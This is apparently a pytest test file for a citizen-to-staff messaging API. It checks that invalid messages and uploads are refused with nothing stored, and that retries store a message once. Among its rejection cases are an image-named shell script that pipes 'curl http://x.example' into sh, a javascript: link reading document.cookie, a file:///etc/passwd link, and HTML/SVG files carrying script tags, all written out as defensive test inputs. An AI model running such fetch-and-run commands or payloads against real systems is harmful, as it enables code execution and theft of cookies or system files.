"""Whatever is wrong with a message is refused with a clear 4xx in the API's error shape, and nothing of it is
kept: no message, no conversation, no file. A retry with the same client reference stores nothing twice."""

from __future__ import annotations

import io
from typing import Any

import pytest
from PIL import Image
from tests.domains.conversations.helpers import (
    Scene,
    answer,
    assert_error,
    citizen_view,
    daily_counts,
    inbox,
    make_scene,
    messages_url,
    private_files,
    staff_of,
    staff_view,
    tabs,
    uploads_url,
    write,
)
from tests.factories import make_user

from loa.runtime import Runtime

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
MB = 1024 * 1024


def jpeg(size: tuple[int, int] = (80, 60)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 90, 200)).save(buffer, "JPEG")
    return buffer.getvalue()


BAD_MESSAGES = [
    pytest.param({"text": ""}, "empty_message", id="empty"),
    pytest.param({"text": "  \n\t  \u3000"}, "empty_message", id="whitespace"),
    pytest.param({"text": "\x00\x07\x1b"}, "empty_message", id="control-characters-only"),
    pytest.param({"text": "a" * 2001}, "message_too_long", id="2001-characters"),
    pytest.param({"text": "Xin chào", "priority": "high"}, "invalid", id="unknown-field"),
    pytest.param({"kind": "sticker", "text": "Xin chào"}, "invalid", id="unknown-kind"),
    pytest.param({"kind": "image", "text": "Xin chào"}, "invalid", id="image-without-upload"),
    pytest.param({}, "invalid", id="nothing"),
    pytest.param({"text": 42}, "invalid", id="text-not-a-string"),
    pytest.param({"text": "Xin chào", "client_ref": "có dấu cách"}, "invalid", id="bad-client-ref"),
    pytest.param({"kind": "link", "url": "javascript:alert(document.cookie)"}, "invalid_url", id="javascript-link"),
    pytest.param({"kind": "link", "url": "file:///etc/passwd"}, "invalid_url", id="file-link"),
    pytest.param({"kind": "link", "url": "https://"}, "invalid_url", id="link-without-host"),
    pytest.param({"kind": "link", "url": "https://a.vn/x y"}, "invalid_url", id="link-with-space"),
    pytest.param({"kind": "link", "url": "https://a.vn", "text": "x" * 501}, "message_too_long", id="long-caption"),
    pytest.param({"kind": "location", "latitude": 91, "longitude": 105.8}, "invalid", id="latitude-91"),
    pytest.param({"kind": "location", "latitude": 21.0, "longitude": 181}, "invalid", id="longitude-181"),
    pytest.param({"kind": "location", "latitude": 48.85, "longitude": 2.35}, "invalid", id="outside-vietnam"),
    pytest.param({"kind": "location", "latitude": 21.03}, "invalid", id="location-without-longitude"),
]

BAD_FILES = [
    pytest.param("setup.exe", b"MZ\x90\x00\x03" + b"\x00" * 300, "file_type_not_allowed", id="executable"),
    pytest.param("photo.jpg", b"#!/bin/sh\ncurl http://x.example | sh\n", "invalid_image", id="script-named-jpg"),
    pytest.param("don.docx", PDF, "file_type_mismatch", id="pdf-named-docx"),
    pytest.param("anh.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01", "invalid_image", id="corrupt-jpeg"),
    pytest.param("tep", b"\xff\xd8\xff\xe0\x00\x10JFIF", "invalid_image", id="corrupt-jpeg-without-name"),
    pytest.param("trang.html", b"<html><script>alert(1)</script></html>", "file_type_not_allowed", id="html"),
    pytest.param("hinh.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
                 "file_type_not_allowed", id="svg"),
    pytest.param("rong.pdf", b"", "empty_file", id="empty"),
]


async def _snapshot(scene: Scene, runtime: Runtime, conversation_id: int | None) -> dict[str, Any]:
    """Everything a refused message must leave as it was."""
    return {
        "citizen": await citizen_view(scene.as_citizen, scene.account.id),
        "staff": await staff_view(scene.as_agent, conversation_id) if conversation_id else None,
        "inbox": {state: await inbox(scene.as_agent, scene.account.id, state=state)
                  for state in ("open", "waiting", "closed")},
        "files": private_files(runtime),
        "counts": await daily_counts(runtime, scene.account.id),
    }


# --- messages -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("body", "code"), BAD_MESSAGES)
async def test_a_bad_first_message_opens_no_conversation(runtime: Runtime, client_as, body: dict[str, Any],
                                                         code: str) -> None:
    scene = await make_scene(runtime, client_as)
    refused = await scene.as_citizen.post(messages_url(scene.account.id), json=body)
    assert_error(refused, 422, code)
    assert await citizen_view(scene.as_citizen, scene.account.id) == []
    assert await tabs(scene.as_agent, scene.account.id) == {"open": [], "waiting": [], "closed": []}
    assert (await scene.as_citizen.get("/api/v1/me/conversations")).json()["items"] == []


@pytest.mark.parametrize(("body", "code"), BAD_MESSAGES)
async def test_a_bad_message_changes_nothing_in_a_conversation(runtime: Runtime, client_as, body: dict[str, Any],
                                                               code: str) -> None:
    scene = await make_scene(runtime, client_as)
    conversation_id = (await write(scene.as_citizen, scene.account.id, "Tin hợp lệ"))["conversation_id"]
    await answer(scene.as_agent, conversation_id, "Trả lời hợp lệ")
    before = await _snapshot(scene, runtime, conversation_id)

    assert_error(await scene.as_citizen.post(messages_url(scene.account.id), json=body), 422, code)
    assert_error(await scene.as_agent.post(f"/api/v1/conversations/{conversation_id}/messages", json=body), 422, code)
    started = await scene.as_agent.post(f"/api/v1/accounts/{scene.account.id}/conversations",
                                        json={"citizen_id": scene.citizen.id, "message": body})
    assert_error(started, 422, code)

    assert await _snapshot(scene, runtime, conversation_id) == before


async def test_what_is_not_json_is_refused(runtime: Runtime, client_as) -> None:
    scene = await make_scene(runtime, client_as)
    for content, content_type in ((b"text=Xin chao", "application/x-www-form-urlencoded"),
                                  (b'{"text": "Xin chao"', "application/json"),
                                  (b'["Xin chao"]', "application/json")):
        refused = await scene.as_citizen.post(messages_url(scene.account.id), content=content,
                                              headers={"Content-Type": content_type})
        assert_error(refused, 422, "invalid")
    assert await citizen_view(scene.as_citizen, scene.account.id) == []


async def test_the_longest_message_and_a_trimmed_one_are_accepted(runtime: Runtime, client_as) -> None:
    scene = await make_scene(runtime, client_as)
    longest = await write(scene.as_citizen, scene.account.id, "ă" * 2000)
    assert longest["text"] == "ă" * 2000
    trimmed = await write(scene.as_citizen, scene.account.id, "  \n Xin chào\n\ttất cả \n ")
    assert trimmed["text"] == "Xin chào\n\ttất cả"
    decomposed = await write(scene.as_citizen, scene.account.id, "Tie\u0302\u0301ng Vie\u0323\u0302t")  # NFD
    assert decomposed["text"] == "Tiếng Việt"
    found = await scene.as_agent.get(f"/api/v1/accounts/{scene.account.id}/inbox/search", params={"q": "tieng viet"})
    assert [hit["message"]["id"] for hit in found.json()["items"]] == [decomposed["id"]]


# --- uploads ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("side", ["citizen", "staff"])
@pytest.mark.parametrize(("filename", "data", "code"), BAD_FILES)
async def test_a_refused_file_leaves_nothing_behind(runtime: Runtime, client_as, side: str, filename: str,
                                                    data: bytes, code: str) -> None:
    scene = await make_scene(runtime, client_as)
    conversation_id = (await write(scene.as_citizen, scene.account.id, "Tôi gửi giấy tờ"))["conversation_id"]
    before = await _snapshot(scene, runtime, conversation_id)
    client, url = ((scene.as_citizen, uploads_url(scene.account.id)) if side == "citizen"
                   else (scene.as_agent, f"/api/v1/conversations/{conversation_id}/uploads"))

    refused = await client.post(url, files={"file": (filename, data, "image/jpeg")}, data={"caption": "Giấy tờ"})
    assert_error(refused, 422, code)
    assert await _snapshot(scene, runtime, conversation_id) == before


@pytest.mark.parametrize(("form", "code"), [
    pytest.param({"caption": "x" * 501}, "message_too_long", id="caption-over-500"),
    pytest.param({"caption": "x" * 1001}, "invalid", id="caption-over-1000"),
    pytest.param({"client_ref": "không hợp lệ"}, "invalid", id="bad-client-ref"),
])
async def test_a_good_file_with_a_bad_form_is_refused_whole(runtime: Runtime, client_as, form: dict[str, str],
                                                            code: str) -> None:
    scene = await make_scene(runtime, client_as)
    conversation_id = (await write(scene.as_citizen, scene.account.id, "Tôi gửi ảnh"))["conversation_id"]
    before = await _snapshot(scene, runtime, conversation_id)
    for client, url in ((scene.as_citizen, uploads_url(scene.account.id)),
                        (scene.as_agent, f"/api/v1/conversations/{conversation_id}/uploads")):
        refused = await client.post(url, files={"file": ("anh.jpg", jpeg(), "image/jpeg")}, data=form)
        assert_error(refused, 422, code)
    missing = await scene.as_citizen.post(uploads_url(scene.account.id), data={"caption": "Không có tệp"})
    assert_error(missing, 422, "invalid")
    assert await _snapshot(scene, runtime, conversation_id) == before


@pytest.mark.parametrize(("filename", "size", "make"), [
    pytest.param("lon.pdf", 20 * MB + 1, lambda n: PDF + b"\0" * (n - len(PDF)), id="document-over-20-MB"),
    pytest.param("lon.jpg", 10 * MB + 1, lambda n: jpeg() + b"\0" * (n - len(jpeg())), id="photo-over-10-MB"),
])
async def test_a_file_too_large_is_refused(runtime: Runtime, client_as, filename: str, size: int, make) -> None:
    scene = await make_scene(runtime, client_as)
    conversation_id = (await write(scene.as_citizen, scene.account.id, "Tôi gửi tệp lớn"))["conversation_id"]
    before = await _snapshot(scene, runtime, conversation_id)
    data = make(size)
    assert len(data) == size
    refused = await scene.as_citizen.post(uploads_url(scene.account.id), files={"file": (filename, data)})
    error = assert_error(refused, 413, "too_large")
    assert " / " in error["message"]
    assert await _snapshot(scene, runtime, conversation_id) == before


async def test_a_good_document_and_photo_are_kept(runtime: Runtime, client_as) -> None:
    scene = await make_scene(runtime, client_as)
    files_before = private_files(runtime)
    document = await scene.as_citizen.post(uploads_url(scene.account.id),
                                           files={"file": ("Đơn đề nghị.pdf", PDF, "application/octet-stream")},
                                           data={"caption": "Đơn của tôi"})
    assert document.status_code == 201, document.text
    assert document.json()["kind"] == "file"
    assert document.json()["attachment"]["name"] == "Đơn đề nghị.pdf"
    assert document.json()["attachment"]["content_type"] == "application/pdf"
    assert document.json()["text"] == "Đơn của tôi"
    photo = await scene.as_agent.post(f"/api/v1/conversations/{document.json()['conversation_id']}/uploads",
                                      files={"file": ("so-do.png", jpeg(), "image/png")})
    assert photo.status_code == 201, photo.text
    assert photo.json()["kind"] == "image" and photo.json()["attachment"]["name"] == "so-do.jpg"
    assert len(private_files(runtime) - files_before) == 3  # the document, the photo and its thumbnail
    assert [m["kind"] for m in await citizen_view(scene.as_citizen, scene.account.id)] == ["image", "file"]


# --- retries ------------------------------------------------------------------------------------------------------


async def test_a_retry_with_the_same_client_ref_is_stored_once(runtime: Runtime, client_as) -> None:
    scene = await make_scene(runtime, client_as)
    _, as_owner = await staff_of(runtime, client_as, scene.account, "owner")
    rule = await as_owner.post(f"/api/v1/accounts/{scene.account.id}/automation/rules",
                               json={"keywords": ["thuế"], "reply": "Hỏi Cục Thuế nhé."})
    assert rule.status_code == 201
    url = messages_url(scene.account.id)

    first = await scene.as_citizen.post(url, json={"text": "Hỏi về thuế đất", "client_ref": "app-1:42"})
    assert first.status_code == 201, first.text
    retry = await scene.as_citizen.post(url, json={"text": "Hỏi về thuế đất", "client_ref": "app-1:42"})
    assert retry.status_code == 200, retry.text
    assert retry.json()["id"] == first.json()["id"]
    assert retry.json()["client_ref"] == "app-1:42"
    assert [(m["text"], m["auto"]) for m in await citizen_view(scene.as_citizen, scene.account.id)] == [
        ("Hỏi Cục Thuế nhé.", "keyword"), ("Hỏi về thuế đất", None)]
    assert (await inbox(scene.as_agent, scene.account.id))[0]["unread"] == 1
    assert (await daily_counts(runtime, scene.account.id))["messages_in"] == 1

    # The reference is the sender's, per conversation: another citizen may use the same one.
    other = await client_as(await make_user(runtime))
    elsewhere = await other.post(url, json={"text": "Thuế môn bài", "client_ref": "app-1:42"})
    assert elsewhere.status_code == 201 and elsewhere.json()["id"] != first.json()["id"]

    conversation_id = first.json()["conversation_id"]
    reply = {"text": "Chào anh", "client_ref": "inbox-7"}
    staff_first = await scene.as_agent.post(f"/api/v1/conversations/{conversation_id}/messages", json=reply)
    staff_retry = await scene.as_agent.post(f"/api/v1/conversations/{conversation_id}/messages", json=reply)
    assert (staff_first.status_code, staff_retry.status_code) == (201, 200)
    assert staff_retry.json()["id"] == staff_first.json()["id"]
    assert [m["text"] for m in await staff_view(scene.as_agent, conversation_id)].count("Chào anh") == 1


async def test_a_retried_upload_keeps_one_copy_of_the_file(runtime: Runtime, client_as) -> None:
    scene = await make_scene(runtime, client_as)
    files_before = private_files(runtime)
    sent = []
    for _ in range(2):
        sent.append(await scene.as_citizen.post(uploads_url(scene.account.id),
                                                files={"file": ("anh.jpg", jpeg(), "image/jpeg")},
                                                data={"client_ref": "upload-1"}))
    assert [response.status_code for response in sent] == [201, 200]
    assert sent[1].json()["id"] == sent[0].json()["id"]
    assert [m["kind"] for m in await citizen_view(scene.as_citizen, scene.account.id)] == ["image"]
    assert len(private_files(runtime) - files_before) == 2  # the photo and its thumbnail, once
    served = await scene.as_agent.get(sent[1].json()["attachment"]["url"])
    assert served.status_code == 200
